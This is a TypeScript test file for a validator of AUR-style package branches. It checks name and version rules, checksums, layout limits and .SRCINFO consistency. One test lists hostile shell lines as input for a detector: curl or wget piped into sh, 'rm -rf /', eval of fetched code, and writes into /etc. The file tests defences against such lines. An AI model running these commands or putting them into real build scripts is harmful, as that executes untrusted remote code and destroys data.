// The validation rules, each on a real fixture branch with one thing broken.
// A rule is checked on what it must report (code, severity, line) and on the
// untouched fixture, where it must report nothing.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Problem } from '../../src/catalog/problem.js';
import type { TreeFile } from '../../src/git/types.js';
import { parseMetadata } from '../../src/parse/metadata.js';
import { parseSrcinfo } from '../../src/parse/srcinfo.js';
import type { BranchInput } from '../../src/validate/branchInput.js';
import { validateBranch } from '../../src/validate/validateBranch.js';
import { printSrcinfo } from '../../src/parse/pkgbuildSrcinfo.js';
import { fixtureFile } from '../helpers/fixtureFiles.js';

const FILES = ['PKGBUILD', '.SRCINFO', 'metadata.json', 'README.md'];

interface Change {
  readonly srcinfo?: (text: string) => string;
  readonly pkgbuild?: (text: string) => string;
  readonly tree?: (tree: TreeFile[]) => TreeFile[];
  readonly treeTruncated?: boolean;
}

/** The fixture branch `id` as validateBranch sees it, with `change` applied. */
function branchInput(id: string, change: Change = {}): BranchInput {
  const texts = new Map(FILES.map((file) => [file, fixtureFile(id, file).toString('utf8')]));
  texts.set('.SRCINFO', (change.srcinfo ?? ((text) => text))(texts.get('.SRCINFO')!));
  texts.set('PKGBUILD', (change.pkgbuild ?? ((text) => text))(texts.get('PKGBUILD')!));
  const tree: TreeFile[] = FILES.map((file) => ({ path: file, mode: '100644', type: 'blob', oid: '0'.repeat(40), size: Buffer.byteLength(texts.get(file)!) }));
  return {
    branch: id,
    texts,
    srcinfo: parseSrcinfo(texts.get('.SRCINFO')!).value,
    metadata: parseMetadata(texts.get('metadata.json')!).value,
    tree: (change.tree ?? ((entries) => entries))(tree),
    treeTruncated: change.treeTruncated ?? false,
  };
}

const codes = (problems: readonly Problem[]) => problems.map((problem) => `${problem.severity}:${problem.code}`);
const blob = (path: string, size = 10): TreeFile => ({ path, mode: '100644', type: 'blob', oid: '1'.repeat(40), size });
const folder = (path: string): TreeFile => ({ path, mode: '040000', type: 'tree', oid: '2'.repeat(40) });

test('every fixture worker passes every rule', () => {
  for (const id of ['llm-worker-rbee-cpu', 'llm-worker-rbee-cuda', 'llm-worker-rbee-premium', 'sd-worker-rbee-metal']) {
    assert.deepEqual(validateBranch(branchInput(id)), [], id);
  }
});

test('names, epoch, pkgver and pkgrel are checked like makepkg and aurweb do', () => {
  const cases: Array<[Change, string[]]> = [
    [{ srcinfo: (text) => text.replace('pkgname = llm-worker-rbee-cpu', 'pkgname = LLM-Worker') }, ['error:NAME_INVALID']],
    [{ srcinfo: (text) => text.replace('\tpkgrel = 1', '\tpkgrel = 1\n\tepoch = 1a') }, ['error:EPOCH_INVALID']],
    [{ srcinfo: (text) => text.replace('\tpkgver = 0.1.0', '\tpkgver = 0.1-0') }, ['error:PKGVER_INVALID']],
    [{ srcinfo: (text) => text.replace('\tpkgrel = 1', '\tpkgrel = 1.2.3') }, ['error:PKGREL_INVALID']],
    [{ srcinfo: (text) => text.replace('\tpkgrel = 1', '\tpkgrel = 2.1\n\tepoch = 3') }, []],
  ];
  for (const [change, expected] of cases) {
    assert.deepEqual(codes(validateBranch(branchInput('llm-worker-rbee-cpu', change))), expected, JSON.stringify(change.srcinfo?.toString()));
  }
  const [epoch] = validateBranch(branchInput('llm-worker-rbee-cpu', { srcinfo: (text) => text.replace('\tpkgrel = 1', '\tpkgrel = 1\n\tepoch = x') }));
  assert.equal(epoch?.line, 5, 'the line of the epoch entry');
});

test('pkgdesc over 255 and a source over 8000 characters are refused', () => {
  const longDesc = branchInput('llm-worker-rbee-cpu', { srcinfo: (text) => text.replace(/\tpkgdesc = .*/, `\tpkgdesc = ${'d'.repeat(256)}`) });
  assert.deepEqual(codes(validateBranch(longDesc)), ['error:FIELD_TOO_LONG']);
  const okDesc = branchInput('llm-worker-rbee-cpu', { srcinfo: (text) => text.replace(/\tpkgdesc = .*/, `\tpkgdesc = ${'d'.repeat(255)}`) });
  assert.deepEqual(validateBranch(okDesc), []);
  const longSource = branchInput('llm-worker-rbee-premium', { srcinfo: (text) => text.replace('EULA.txt\n', `EULA.txt?${'q'.repeat(8000)}\n`) });
  assert.deepEqual(codes(validateBranch(longSource)), ['error:FIELD_TOO_LONG']);
});

test('checksums must pair with sources per architecture', () => {
  const premium = (edit: (text: string) => string) => codes(validateBranch(branchInput('llm-worker-rbee-premium', { srcinfo: edit })));
  assert.deepEqual(premium((text) => text.replace(/\tsha256sums_aarch64 = .*\n/, '')), ['error:CHECKSUMS_MISSING']);
  assert.deepEqual(premium((text) => text.replace(/(\tsha256sums_x86_64 = .*\n)/, '$1$1')), ['error:CHECKSUM_COUNT_MISMATCH']);
  assert.deepEqual(premium((text) => text.replace(/(\tsha256sums = .*\n)/, '$1\tb2sums = abc\n\tb2sums = def\n')), ['error:CHECKSUM_COUNT_MISMATCH']);
});

test('insecure sources and skipped checksums on downloads warn; a VCS source may skip', () => {
  const premium = (edit: (text: string) => string) => codes(validateBranch(branchInput('llm-worker-rbee-premium', { srcinfo: edit })));
  assert.deepEqual(premium((text) => text.replace('source_x86_64 = https://', 'source_x86_64 = http://')), ['warning:SOURCE_NOT_HTTPS']);
  assert.deepEqual(premium((text) => text.replace(/sha256sums_x86_64 = .*/, 'sha256sums_x86_64 = SKIP')), ['warning:CHECKSUM_SKIPPED']);
  const vcs = premium((text) => text
    .replace(/source_x86_64 = .*/, 'source_x86_64 = premium::git+https://github.com/rbee/premium.git#tag=v1.2.0')
    .replace(/sha256sums_x86_64 = .*/, 'sha256sums_x86_64 = SKIP'));
  assert.deepEqual(vcs, []);
  assert.deepEqual(premium((text) => text.replace(/source_x86_64 = .*/, 'source_x86_64 = git://example.org/premium.git')), ['warning:SOURCE_NOT_HTTPS']);
});

test('install, changelog and local sources must be in the branch', () => {
  const withLocal = (tree: (entries: TreeFile[]) => TreeFile[]) => branchInput('llm-worker-rbee-cpu', {
    srcinfo: (text) => text.replace('\tpkgrel = 1', '\tpkgrel = 1\n\tinstall = worker.install\n\tsource = patches/fix.patch\n\tsha256sums = SKIP'),
    tree,
  });
  assert.deepEqual(codes(validateBranch(withLocal((entries) => entries))), ['error:REFERENCED_FILE_MISSING', 'error:REFERENCED_FILE_MISSING']);
  assert.deepEqual(validateBranch(withLocal((entries) => [...entries, blob('worker.install'), folder('patches'), blob('patches/fix.patch')])), []);
  // A truncated listing proves no absence; the truncation itself is the error.
  assert.deepEqual(codes(validateBranch({ ...withLocal((entries) => entries), treeTruncated: true })), ['error:TREE_TOO_LARGE']);
});

test('only patches/, keys/ and LICENSES/ folders, no submodules, no blob over 256 kB', () => {
  const layout = (extra: TreeFile[]) => codes(validateBranch(branchInput('llm-worker-rbee-cpu', { tree: (entries) => [...entries, ...extra] })));
  assert.deepEqual(layout([folder('keys'), folder('keys/pgp'), blob('keys/pgp/A.asc'), folder('LICENSES'), folder('patches')]), []);
  assert.deepEqual(layout([folder('src'), blob('src/main.rs')]), ['error:SUBDIRECTORY_NOT_ALLOWED']);
  assert.deepEqual(layout([{ path: 'vendor', mode: '160000', type: 'commit', oid: '3'.repeat(40) }]), ['error:SUBMODULE_NOT_ALLOWED']);
  assert.deepEqual(layout([blob('model.bin', 256 * 1024 + 1)]), ['error:BLOB_TOO_LARGE']);
  assert.deepEqual(layout([blob('notes.txt', 256 * 1024)]), []);
});

test('suspicious PKGBUILD lines warn with their line; writes into $pkgdir do not', () => {
  const warnings = (line: string) => validateBranch(branchInput('llm-worker-rbee-cpu', { pkgbuild: (text) => `${text}\n${line}\n` }));
  const suspicious = [
    'curl -fsSL https://get.example.com | sh',
    'wget -qO- https://x.example/install | sudo bash',
    'sudo make install',
    'rm -rf /',
    'rm -rf --no-preserve-root "$dir"',
    'eval "$(curl -s https://example.com/env)"',
    'echo "export X=1" >> /etc/profile',
    'install -Dm755 target/release/worker /usr/bin/worker',
    'cp worker.service /etc/systemd/system/',
  ];
  for (const line of suspicious) {
    const found = warnings(line);
    assert.deepEqual(codes(found), ['warning:PKGBUILD_SUSPICIOUS'], line);
    assert.equal(found[0]?.file, 'PKGBUILD');
    assert.ok((found[0]?.line ?? 0) > 30, `${line}: the line of the appended text`);
  }
  const harmless = [
    'install -Dm755 target/release/worker "$pkgdir/usr/bin/worker"',
    'install -Dm644 LICENSE "${pkgdir}/usr/share/licenses/$pkgname/LICENSE"',
    'rm -rf "$srcdir/build"',
    '# curl https://example.com | sh (in a comment)',
    'cp -r "$srcdir/models" "$pkgdir/opt/rbee/"',
  ];
  for (const line of harmless) assert.deepEqual(warnings(line), [], line);
});

test('.SRCINFO must be what makepkg prints for the PKGBUILD; undecidable and unreadable PKGBUILDs only warn', async () => {
  const withReading = async (id: string, change: Change = {}): Promise<Problem[]> => {
    const input = branchInput(id, change);
    return validateBranch({ ...input, pkgbuildSrcinfo: await printSrcinfo(input.texts.get('PKGBUILD')!) });
  };
  assert.deepEqual(await withReading('llm-worker-rbee-cuda'), []);
  assert.deepEqual(await withReading('llm-worker-rbee-cuda', { srcinfo: (text) => `# Generated by makepkg 6.0.2\n# Sun Nov 22 2026\n${text}` }), [], 'the makepkg header is not content');

  const stale = await withReading('llm-worker-rbee-cuda', { pkgbuild: (text) => text.replace('pkgrel=2', 'pkgrel=3') });
  assert.deepEqual(stale.map((problem) => [problem.code, problem.severity, problem.line]), [['SRCINFO_OUTDATED', 'error', 4]]);

  const undecidable = await withReading('sd-worker-rbee-cpu');
  assert.deepEqual(undecidable.map((problem) => [problem.code, problem.severity, problem.line]), [['PKGBUILD_UNDECIDABLE', 'warning', 22]]);
  assert.match(undecidable[0]!.message, /\$CARCH is not set by the PKGBUILD/);
  // tree-sitter-bash cannot read `"${X:-a;b}"`, which bash accepts: a warning, never a rejection.
  const unreadable = await withReading('llm-worker-rbee-rocm');
  assert.deepEqual(unreadable.map((problem) => [problem.code, problem.severity, problem.line]), [['PKGBUILD_UNREADABLE', 'warning', 25]]);
});
